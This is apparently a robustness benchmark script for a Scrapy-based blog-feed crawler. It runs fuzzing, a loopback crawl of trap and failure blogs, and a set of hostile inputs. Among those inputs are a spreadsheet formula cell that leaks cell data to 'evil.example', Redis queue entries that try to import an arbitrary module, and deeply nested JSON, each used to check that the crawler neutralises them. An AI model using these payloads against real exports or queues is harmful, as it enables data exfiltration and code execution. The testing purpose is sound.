"""Robustness report: inputs tried, exceptions, faults injected, items lost.

Three parts, each printed as it finishes and summed at the end:

* ``corpus``: every page under ``corpus/pages`` and every feed under ``corpus/feeds`` of the
  shared folder through the extractors (``tests/robustness.py``: ``walk_corpus``);
* ``fuzz``: hypothesis-generated hostile inputs (mutated and generated HTML, random URLs,
  random and mutated feeds; the strategies of ``tests/robustness.py``) through the page
  extractors, the identity code, the URL cleaner and the feed readers. Exceptions are counted,
  not raised, so every example runs;
* ``hostile``: the inputs an attack found failing (issue 18): JSON nested 100,000 deep (a JSON
  feed, a ``links.json``, a Redis seed and a Redis queue entry), hostile Redis entries (a
  ``_class`` that would import a module, a Response class, a loopback ``proxy``,
  ``download_maxsize: 0``, a foreign callback, a POST), control characters in page and feed
  titles, formula cells in ``scrapy export csv`` and ``edges``, link-heavy pages of 0.25 to
  8 MB. A defect (a control character kept, a formula cell, a hostile entry served, a module
  imported) counts as an exception; the Redis checks need Redis on 127.0.0.1:6379;
* ``pages``: six blogs serving an 8 MB page of 150,000 links and ten blogs answering in 0.5 s
  under a 3 s download timeout, crawled by ``scrapy crawl blogs`` (``tests/test_crawl_bounds.py``),
  then ``pages-ref``, the ten slow blogs alone: the reference of the same run for the reactor's
  longest stall (``blogfeeds/reactor/longest_stall_ms``, a 20 ms ``LoopingCall`` ticker) and
  the peak RSS. Items lost = a slow blog not stored ``ok`` or a big one not stored with
  ``truncated: links``;
* ``crawl``: the hostile loopback web of ``tests/test_robustness_crawl.py`` (an infinite calendar,
  endless trap blogs, and one blog per failure kind: 404, 500, timeout, DNS, 20 MB page, gzip bomb,
  image, empty page, overlong redirect, noindex, nofollow, meta refresh, robots.txt) crawled by a
  real ``scrapy crawl blogs``. Faults injected = blogs served a failure or a trap; items lost =
  blogs linked from the hub that are missing from the export or from the SQLite database.

Usage, from the repository root::

    python bench/robustness.py [--examples 10000] [--shared PATH] [--skip-crawl] [--series]

``--series`` also prints the CPU and peak RSS of reading one link-heavy page of 1, 2, 4 and
8 MB, with the page bounds and without them (the unbounded 8 MB page takes about a minute).

Exit status 1 when an exception escaped or an item was lost; 2 when the shared folder is missing.
"""

from __future__ import annotations

import argparse
import csv
import io
import json
import logging
import os
import re
import sqlite3
import subprocess
import sys
import tempfile
import time
import traceback
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

ROOT = Path(__file__).resolve().parent.parent
sys.path.insert(0, str(ROOT))

from hypothesis import HealthCheck, given, settings  # noqa: E402
from hypothesis import strategies as st  # noqa: E402

from blogfeeds.commands.export import (  # noqa: E402
    _EDGE_FIELDS,
    BLOG_COLUMNS,
    FORMULA_STARTS,
    write_csv,
    write_edges,
)
from blogfeeds.crawl.urls import crawl_url  # noqa: E402
from blogfeeds.extract.blog import analyze_page  # noqa: E402
from blogfeeds.extract.feedreader import read_feed  # noqa: E402
from blogfeeds.extract.friends import friends_from_data_source  # noqa: E402
from blogfeeds.extract.identity import blog_id, registered_domain, split_url  # noqa: E402
from blogfeeds.extract.page import decode_html, parse_page  # noqa: E402
from tests.littleweb import LittleWeb  # noqa: E402
from tests.robustness import (  # noqa: E402
    BIG_PAGES_SETTINGS,
    big_pages_web,
    check_feed,
    check_page,
    crawl_blogs,
    feed_documents,
    html_documents,
    link_heavy_page,
    urls,
    walk_corpus,
)


@dataclass
class Part:
    name: str
    tried: int = 0
    exceptions: list[str] = field(default_factory=list)
    faults: int = 0
    lost: int = 0
    seconds: float = 0.0
    stall_ms: int | None = None
    """The crawl's longest reactor stall (``blogfeeds/reactor/longest_stall_ms``)."""
    rss_mb: int | None = None
    skipped: list[str] = field(default_factory=list)

    def line(self) -> str:
        text = (
            f"{self.name:<9} inputs {self.tried:>6}  exceptions {len(self.exceptions):>3}  "
            f"faults injected {self.faults:>3}  items lost {self.lost:>3}  ({self.seconds:.0f} s)"
        )
        if self.stall_ms is not None:
            text += f"  longest reactor stall {self.stall_ms} ms, peak RSS {self.rss_mb} MB"
        return text + "".join(f"\n  skipped: {s}" for s in self.skipped)


def _identity(url: str) -> None:
    try:
        host, _ = split_url(url)
        registered_domain(host)
        blog_id(url)
    except ValueError:
        pass
    crawl_url(url)


def corpus_part(shared: Path) -> Part:
    part = Part("corpus")
    started = time.monotonic()
    for kind, outcome in walk_corpus(
        shared / "corpus", workers=min(4, os.cpu_count() or 1)
    ).items():
        part.tried += outcome.tried
        part.exceptions += [
            f"{kind}/{name}: {tb.splitlines()[-1]}" for name, tb in outcome.exceptions
        ]
    part.seconds = time.monotonic() - started
    return part


def _fuzz(part: Part, strategy: Any, check: Callable[[Any], Any], count: int) -> None:
    """Run ``check`` on ``count`` hypothesis examples; count exceptions instead of raising."""

    @settings(
        max_examples=count, deadline=None, database=None, suppress_health_check=list(HealthCheck)
    )
    @given(strategy)
    def run(value: Any) -> None:
        part.tried += 1
        try:
            check(value)
        except Exception:
            name = getattr(check, "__name__", repr(check))
            part.exceptions.append(f"{name}: {traceback.format_exc(limit=3)}")

    run()


def fuzz_part(examples: int) -> Part:
    part = Part("fuzz")
    started = time.monotonic()
    targets: list[tuple[Any, Callable[[Any], Any], float]] = [
        (st.binary(max_size=3000), lambda b: decode_html(b, "text/html", ""), 0.15),
        (html_documents(), check_page, 0.25),
        (urls(), _identity, 0.35),
        (feed_documents(), check_feed, 0.25),
    ]
    for strategy, check, share in targets:
        _fuzz(part, strategy, check, max(1, int(examples * share)))
    part.seconds = time.monotonic() - started
    return part


def crawl_part() -> Part:
    from tests.test_robustness_crawl import FAILING, hostile_web

    part = Part("crawl")
    started = time.monotonic()
    routes = hostile_web()
    hub_friends = [*FAILING, "calendar-trap.com", "diary.example", "private.example"]
    hub_friends += ["refresh.example", "robots.example"]
    with tempfile.TemporaryDirectory() as tmp, LittleWeb(routes) as web:
        run = crawl_blogs(
            web,
            ["http://hub.example/"],
            Path(tmp),
            env={"no_proxy": "nx-host.invalid", "NO_PROXY": "nx-host.invalid"},
            settings={
                "DOWNLOAD_TIMEOUT": "2",
                "RETRY_TIMES": "1",
                "BLOGFEEDS_RETRY_BACKOFF_BASE": "0.2",
                "BLOGFEEDS_MAX_REQUESTS_PER_BLOG": "8",
                "BLOGFEEDS_MAX_PAGES_PER_BLOG": "50",
            },
        )
        with sqlite3.connect(Path(tmp) / "crawl.sqlite3") as db:
            stored = {row[0] for row in db.execute("SELECT blog_id FROM blogs")}
    part.tried = len(run.hits)
    part.faults = len(FAILING) + 4  # failures, the calendar, the trap chain, noindex, nofollow
    expected = {"hub.example", *hub_friends}
    part.lost = len(expected - set(run.blogs)) + len(set(run.blogs) - stored)
    part.exceptions = run.tracebacks()
    if run.returncode != 0:
        part.exceptions.append(f"scrapy exited with {run.returncode}")
    part.seconds = time.monotonic() - started
    return part


# --- hostile inputs found by the attack on main at 7d01387 ----------------------------------------

NESTED = b"[" * 100_000 + b"]" * 100_000
_CONTROLS = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f]")


def _defect(part: Part, name: str, check: Callable[[], str | None]) -> None:
    """Run one hostile input: ``check`` returns a defect (``str``) or None; an exception is one."""
    part.tried += 1
    try:
        problem = check()
    except Exception:
        problem = traceback.format_exc(limit=3)
    if problem:
        part.exceptions.append(f"{name}: {problem}")


def _nested_json() -> list[tuple[str, Callable[[], str | None]]]:
    feed = b'{"version": "https://jsonfeed.org/version/1.1", "items": ' + NESTED + b"}"
    links = b'{"links": ' + NESTED + b"}"

    def json_feed() -> None:
        check_feed(feed, "https://blog.example.com/feed.json", "application/feed+json")

    def links_json() -> str | None:
        found = friends_from_data_source("https://blog.example.com/links.json", links, "")
        return f"{len(found)} friends from a nested list" if found else None

    return [("nested JSON feed", json_feed), ("nested links.json", links_json)]


def _control_characters() -> list[tuple[str, Callable[[], str | None]]]:
    dirty = "\x01\x02\x1b[31mRed\x1b[0m \x7f\x9bTitle\x07"
    page = f"<html><head><title>{dirty}</title></head><body><p>{dirty}</p></body></html>"
    feed = (
        f'<?xml version="1.0"?><rss version="2.0"><channel><title>{dirty}</title>'
        f"<item><title>{dirty}</title><guid>1</guid></item></channel></rss>"
    ).encode("utf-8", "surrogatepass")

    def page_title() -> str | None:
        meta = analyze_page("https://blog.example.com/", page.encode()).metadata
        texts = (meta.title, meta.abstract)
        return f"controls kept in {texts!r}" if any(_CONTROLS.search(t) for t in texts) else None

    def feed_title() -> str | None:
        doc = read_feed(feed, "application/rss+xml")
        title = doc.title if doc is not None else ""
        return f"controls kept in {title!r}" if _CONTROLS.search(title) else None

    return [("control characters in a page title", page_title), ("... in a feed", feed_title)]


def _formula_cells() -> list[tuple[str, Callable[[], str | None]]]:
    evil = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'
    blog = dict(zip(BLOG_COLUMNS, [evil, "+1", "-2", "@SUM(A1)"] * 5, strict=False))
    edge = dict.fromkeys(_EDGE_FIELDS, evil) | {"target_url": "+x", "source_url": "-x"}

    def cells(write: Callable[[Any], Any]) -> str | None:
        out = io.StringIO()
        write(out)
        rows = list(csv.reader(io.StringIO(out.getvalue())))[1:]
        bad = [c for row in rows for c in row if c.startswith(FORMULA_STARTS)]
        return f"formula cells {bad!r:.200}" if bad else None

    return [
        ("formula cells in export csv", lambda: cells(lambda out: write_csv([blog], out))),
        ("formula cells in export edges", lambda: cells(lambda out: write_edges([edge], out))),
    ]


def _link_heavy() -> list[tuple[str, Callable[[], str | None]]]:
    def one(megabytes: float) -> Callable[[], str | None]:
        def check() -> str | None:
            page = parse_page("https://blog.example.com/", link_heavy_page(megabytes))
            if megabytes >= 1 and page.truncated != ("links",):
                return f"not cut at the link bound: {page.truncated}"
            return None

        return check

    return [(f"link-heavy page of {mb} MB", one(mb)) for mb in (0.25, 1, 2, 4, 7.9)]


def _redis_entries(part: Part) -> None:
    """Hostile queue entries and seeds through the real Redis scheduler (skipped without
    Redis): every one quarantined, nothing imported, the good entry after them served."""
    try:
        from tests.test_robustness_security import _frontier
    except Exception:
        part.skipped.append("redis entries (tests unavailable)")
        return
    marker = Path(tempfile.mkdtemp()) / "imported"
    module = marker.parent / "bench_hostile_module.py"
    module.write_text(f"import pathlib\npathlib.Path({str(marker)!r}).touch()\nclass R: pass\n")
    sys.path.insert(0, str(marker.parent))

    def entry(**fields: Any) -> bytes:
        return json.dumps({"url": "https://b.example/", **fields}).encode()

    hostile = [
        entry(_class="bench_hostile_module.R"),
        entry(_class="scrapy.http.Response"),
        entry(meta={"download_maxsize": 0}),
        entry(callback="crawler"),
        entry(method="POST"),
        b'{"url": "https://b.example/", "meta": ' + NESTED + b"}",
        b"[1, 2]",
    ]
    seeds = [
        b'{"url": "https://a.example/", "meta": ' + NESTED + b"}",
        entry(meta={"download_maxsize": 0}),
    ]
    # a proxy in meta is dropped (this worker's environment chooses its proxy): the request
    # is served, without it
    proxied = {"callback": "parse_home", "meta": {"proxy": "http://127.0.0.1:9"}}
    logging.disable(logging.ERROR)  # each quarantined entry is logged: expected here
    try:
        with _frontier("bench-hostile") as (client, crawler, spider, keys):
            sched = crawler.sched
            sched.open(spider)
            for i, data in enumerate(hostile):
                client.zadd(keys.requests, {data: -10 + i})
            client.zadd(keys.requests, {entry(**proxied): 5})
            part.tried += len(hostile) + 1
            served = []
            for _ in range(len(hostile) + 1):
                try:
                    served.append(sched.next_request())
                except Exception:
                    part.exceptions.append(f"redis entry: {traceback.format_exc(limit=3)}")
            if marker.exists() or "bench_hostile_module" in sys.modules:
                part.exceptions.append("redis entry: a _class module was imported")
            if any(r is not None for r in served[:-1]):
                part.exceptions.append("redis entry: a hostile entry was served")
            if not served or served[-1] is None:
                part.lost += 1
            elif "proxy" in served[-1].meta:
                part.exceptions.append("redis entry: meta.proxy kept")
            client.rpush(keys.start_urls, *seeds)
            part.tried += len(seeds)
            for lease, data in sched.pop_seeds(10):
                try:
                    request = spider._seed_to_request(sched, lease, data)
                except Exception:
                    part.exceptions.append(f"redis seed: {traceback.format_exc(limit=3)}")
                    continue
                if request is not None:
                    part.exceptions.append(f"redis seed served: {data[:60]!r}")
            quarantined = client.llen(keys.bad)
            if quarantined != len(hostile) + len(seeds):
                part.exceptions.append(f"redis: {quarantined} quarantined, not {len(hostile) + 2}")
            sched.close("finished")
    except Exception as exc:
        if "Redis unreachable" in str(exc) or type(exc).__name__ == "Skipped":
            part.skipped.append("redis entries (Redis unreachable at 127.0.0.1:6379)")
        else:
            part.exceptions.append(f"redis: {traceback.format_exc(limit=3)}")
    finally:
        logging.disable(logging.NOTSET)
        sys.path.remove(str(marker.parent))


def hostile_part() -> Part:
    part = Part("hostile")
    started = time.monotonic()
    checks = [*_nested_json(), *_control_characters(), *_formula_cells(), *_link_heavy()]
    for name, check in checks:
        _defect(part, name, check)
    _redis_entries(part)
    part.seconds = time.monotonic() - started
    return part


def pages_part(big: int = 6) -> tuple[Part, Part]:
    """The loopback crawl of ``tests/test_crawl_bounds.py``: ``big`` blogs serving an 8 MB page
    of 150,000 links, ten blogs answering in 0.5 s (download timeout 3 s), and, as the
    reference of the same run, the ten slow blogs alone. Items lost = slow blogs not stored
    ``ok`` (a timeout) or big blogs not stored with ``truncated: links``."""
    out = []
    for n in (big, 0):
        part = Part("pages" if n else "pages-ref")
        started = time.monotonic()
        routes, seeds = big_pages_web(big=n, slow=10)
        settings = {**BIG_PAGES_SETTINGS, "BLOGFEEDS_MAX_BLOGS": str(len(seeds))}
        with tempfile.TemporaryDirectory() as tmp, LittleWeb(routes) as web:
            run = crawl_blogs(web, seeds, Path(tmp), settings=settings, timeout=900)
            with sqlite3.connect(Path(tmp) / "crawl.sqlite3") as db:
                stored = dict(db.execute("SELECT blog_id, status || ':' || truncated FROM blogs"))
        part.tried = len(seeds)
        part.faults = n
        want = {f"slow{i}.example": "ok:" for i in range(10)}
        want.update({f"big{i}.example": "no_feed:links" for i in range(n)})
        part.lost = sum(stored.get(b) != v for b, v in want.items())
        part.exceptions = run.tracebacks()
        if run.returncode != 0:
            part.exceptions.append(f"scrapy exited with {run.returncode}")
        part.stall_ms = run.stat("blogfeeds/reactor/longest_stall_ms")
        part.rss_mb = run.stat("blogfeeds/peak_rss_mb")
        part.seconds = time.monotonic() - started
        out.append(part)
    return out[0], out[1]


def extraction_series() -> list[str]:
    """CPU seconds and peak RSS of reading one link-heavy page of 1, 2, 4 and 8 MB, each in a
    fresh process (``extract_blog``, nothing fetched), with the bounds and without them."""
    code = (
        "import asyncio, sys, time\n"
        "from blogfeeds.extensions.health import peak_rss_mb\n"
        "from blogfeeds.extract.blog import ExtractConfig, extract_blog\n"
        "from blogfeeds.extract.page import PageLimits\n"
        "from tests.robustness import link_heavy_page\n"
        "mb, bounded = float(sys.argv[1]), sys.argv[2] == '1'\n"
        "body = link_heavy_page(mb)\n"
        "config = ExtractConfig() if bounded else ExtractConfig(limits=PageLimits(0, 0))\n"
        "async def none(request): return None\n"
        "t = time.process_time()\n"
        "report = asyncio.run(extract_blog('http://big.example/', body, {}, none, config))\n"
        "rss = peak_rss_mb()\n"
        "print(f'{time.process_time() - t:.1f} s CPU, peak RSS {rss:.0f} MB,"
        ' {body.count(b"<a ")} links, truncated {report.truncated}\')\n'
    )
    lines = []
    for bounded in ("1", "0"):
        for mb in ("1", "2", "4", "7.9"):
            done = subprocess.run(
                [sys.executable, "-c", code, mb, bounded],
                cwd=ROOT,
                capture_output=True,
                text=True,
                check=False,
            )
            label = "bounded  " if bounded == "1" else "unbounded"
            result = done.stdout.strip() or done.stderr.strip().splitlines()[-1]
            lines.append(f"  {label} {mb:>3} MB: {result}")
    return lines


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("--shared", help="the shared reference folder")
    parser.add_argument("--examples", type=int, default=10_000, help="fuzz examples in all")
    parser.add_argument("--skip-crawl", action="store_true", help="no loopback crawl")
    parser.add_argument(
        "--series", action="store_true", help="CPU and RSS of 1-8 MB link pages, both ways"
    )
    args = parser.parse_args(argv)
    shared = Path(args.shared or os.environ.get("BLOGFEEDS_SHARED") or ROOT.parent / "shared")
    if not (shared / "corpus").is_dir():
        print(f"shared folder not found: {shared}", file=sys.stderr)
        return 2
    parts = [corpus_part(shared)]
    print(parts[-1].line(), flush=True)
    parts.append(fuzz_part(args.examples))
    print(parts[-1].line(), flush=True)
    parts.append(hostile_part())
    print(parts[-1].line(), flush=True)
    if not args.skip_crawl:
        for part in pages_part():
            parts.append(part)
            print(parts[-1].line(), flush=True)
        parts.append(crawl_part())
        print(parts[-1].line(), flush=True)
    if args.series:
        print("one link-heavy page, extract_blog in a fresh process:")
        for line in extraction_series():
            print(line, flush=True)
    total = Part("total", seconds=sum(p.seconds for p in parts))
    for p in parts:
        total.tried += p.tried
        total.exceptions += p.exceptions
        total.faults += p.faults
        total.lost += p.lost
    print(total.line())
    for message in total.exceptions[:10]:
        print("  exception:", message)
    return 1 if total.exceptions or total.lost else 0


if __name__ == "__main__":
    sys.exit(main())
